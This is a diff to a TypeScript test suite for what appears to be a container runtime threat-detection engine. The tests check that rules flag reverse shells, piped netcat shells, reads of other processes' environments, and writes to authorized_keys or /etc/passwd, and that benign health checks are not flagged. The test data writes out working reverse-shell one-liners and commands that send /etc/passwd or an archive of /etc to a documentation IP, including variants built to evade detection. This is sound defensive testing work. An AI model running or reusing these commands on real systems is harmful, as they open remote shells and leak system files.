@@ -52,7 +52,7 @@ interface Around {
 }
 
 /** The rules that hold for what the program does; its own start where nothing else is said. */
-function told(process: ProcessFacts, type: number = RECORD.exec, around: Around = {}): string[] {
+function held(process: ProcessFacts, type: number = RECORD.exec, around: Around = {}): string[] {
   const memory = new ArrayBuffer(2_048);
   const bytes = Buffer.from(memory);
   bytes.writeUInt16LE(type, 0);
@@ -70,9 +70,12 @@ function told(process: ProcessFacts, type: number = RECORD.exec, around: Around 
   event.load(0);
   event.process = process;
   event.container = CONTAINER;
-  const held = (engine.match(event) ?? []).map((one) => engine.ruleName(type, one) ?? '');
-  // Rules over time hold only after many events.
-  return held.filter((name) => !OVER_TIME.has(name));
+  return (engine.match(event) ?? []).map((one) => engine.ruleName(type, one) ?? '');
+}
+
+/** The same without rules over time, which hold only after many events. */
+function told(process: ProcessFacts, type: number = RECORD.exec, around: Around = {}): string[] {
+  return held(process, type, around).filter((name) => !OVER_TIME.has(name));
 }
 
 const shell = (script: string): ProcessFacts => ({ ...program('/bin/sh'), args: ['-c', script] });
@@ -336,6 +339,9 @@ test('shells that are turned over to the network are told in any language, and c
     ['bash', '-c', 'exec 5<>/dev/tcp/192.0.2.1/9; cat <&5 | while read line; do $line 2>&5 >&5; done'],
     ['bash', '-c', 'cat /etc/passwd > /dev/tcp/192.0.2.1/9'],
     ['bash', '-c', 'tar cz /etc | base64 > /dev/tcp/192.0.2.1/9'],
+    ['bash', '-c', 'cat /etc/passwd > /dev/tcp/127.0.0.1.example.org/9'],
+    ['bash', '-c', 'exec 5<>/dev/tcp/localhost.example.org/9; while read x <&5; do $x >&5; done'],
+    ['bash', '-c', ': </dev/tcp/localhost/80; cat /etc/passwd > /dev/tcp/192.0.2.1/9'],
     ['zsh', '-c', 'zmodload zsh/net/tcp && ztcp 192.0.2.1 9 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'],
     ['sh', '-c', 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f'],
     ['sh', '-c', 'mknod /tmp/b p; telnet 192.0.2.1 9 0</tmp/b | sh 1>/tmp/b'],
@@ -380,6 +386,14 @@ test('shells that are turned over to the network are told in any language, and c
     ['node', '-e', 'require("http").get("http://localhost/health", r => process.exit(r.statusCode !== 200))'],
     ['php', '-r', 'exit(@fsockopen("db", 3306) ? 0 : 1);'],
     ['perl', '-MIO::Socket', '-e', 'exit !IO::Socket::INET->new("db:5432")'],
+    [
+      'bash',
+      '-c',
+      'exec 3<>/dev/tcp/$HOSTNAME/80; exec 4<>/dev/tcp/localhost/81; cat <&3 >/dev/null; cat </tmp/dev/x <&4',
+    ],
+    ['python3', '-c', 'import socket; from app import execute_from_line; execute_from_line(socket.gethostname())'],
+    ['node', '-p', 'process.execPath + require("net").isIP("192.0.2.1")'],
+    ['ruby', '-e', 'require "socket"; TCPSocket.new("db", 5432); puts "executed"'],
   ];
   for (const words of ordinary) assert.deepEqual(given(words), [], words.join(' '));
 });
@@ -391,6 +405,17 @@ test('a shell without a terminal that is given nothing to do is told, scripts an
     told({ ...program(words[0] ?? ''), args: words.slice(1) }, RECORD.exec, { line: [parent] });
   for (const words of [['/bin/sh', '-i'], ['bash', '-li'], ['bash', '-l', '-i'], ['/bin/sh']])
     assert.ok(below(words).includes(RULE), words.join(' '));
+  for (const options of [
+    '--norc -i',
+    '--noprofile --norc -i',
+    '-i --norc',
+    '--rcfile /x -i',
+    '+h -i',
+    '-o vi -i',
+    '-O extglob -i',
+    '-Bi',
+  ])
+    assert.ok(below(['bash', ...options.split(' ')]).includes(RULE), options);
   assert.ok(below(['/bin/sh'], program('/usr/bin/python3.11', { pid: 50 })).includes(RULE));
   const orders = [['-c', 'true'], ['-e', '/app/run'], ['-s'], ['/app/run'], ['-ic', 'node x'], ['-l', '-c', 'env']];
   for (const words of orders) assert.deepEqual(below(['bash', ...words]), [], words.join(' '));
@@ -468,4 +493,45 @@ test('packages that an interpreter installs, downloads on its line, and searches
     [],
     'ldd asks what a program loads',
   );
+});
+
+test('below what starts an application with the packages of its language each act is told; a system’s packages are its own', () => {
+  const below = (parent: string, path: string): string[] =>
+    told(program('/bin/sh'), RECORD.openat, {
+      line: [program(parent, { pid: 50 })],
+      write: (bytes) => writeOpen(bytes, path, 1),
+    });
+  for (const parent of ['npm start', 'yarn start', 'bundle exec puma', 'uv run app', 'poetry run app']) {
+    assert.deepEqual(below(parent, '/root/.ssh/authorized_keys'), ['Start-up file changed in a container'], parent);
+    assert.deepEqual(below(parent, '/etc/passwd'), ['Accounts of a container changed'], parent);
+  }
+  assert.deepEqual(below('apt-get install x', '/etc/passwd'), []);
+  const adds = (parent: string): string[] =>
+    told(program('apk add curl'), RECORD.exec, { line: [program(parent, { pid: 50 })] });
+  assert.deepEqual(adds('npm start'), ['Package manager run in a container']);
+  assert.deepEqual(adds('apk add x'), []);
+});
+
+test('another name changes nothing: of a loader, of a shell, of a file of /proc', () => {
+  const linked = (line: string, exePath: string): string[] => told(program(line, { exePath }));
+  for (const file of ['/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', '/lib/ld-2.31.so', '/usr/lib/libc.so'])
+    assert.deepEqual(linked('/tmp/ls /tmp/x', file), ['Program started through its loader'], file);
+  assert.deepEqual(linked('/tmp/apt list', '/usr/bin/bash'), ['Package manager run in a container']);
+  assert.deepEqual(told(program('/usr/bin/ldapsearch -x')), []);
+  const reads = (path: string): string[] =>
+    told(program('/bin/cat'), RECORD.openat, { write: (bytes) => writeOpen(bytes, path, 0) });
+  // Its own number is 7, whichever way it was named: /proc/self/../1/environ is that of the first process.
+  assert.deepEqual(reads('/proc/7/environ'), []);
+  assert.deepEqual(reads('/proc/7/task/9/environ'), []);
+  assert.deepEqual(reads('/proc/self/environ'), [], 'as a recording of another tool has it');
+  assert.deepEqual(reads('/proc/1/environ'), ['Environment of another process read']);
+  assert.deepEqual(reads('/proc/70/environ'), ['Environment of another process read']);
+});
+
+test('a program that carries what a pipe gives is one of the pair, a question for a port is none', () => {
+  const RULE = 'Named pipe joined with a network program';
+  for (const line of ['nc 192.0.2.1 9', 'busybox nc 192.0.2.1 9', 'telnet -lz 192.0.2.1 9', 'busybox mknod /tmp/x p'])
+    assert.ok(held(program(line)).includes(RULE), line);
+  for (const line of ['nc -zv db 5432', 'nc -z -w1 db 5432', 'busybox nc -z db 5432'])
+    assert.ok(!held(program(line)).includes(RULE), line);
 });
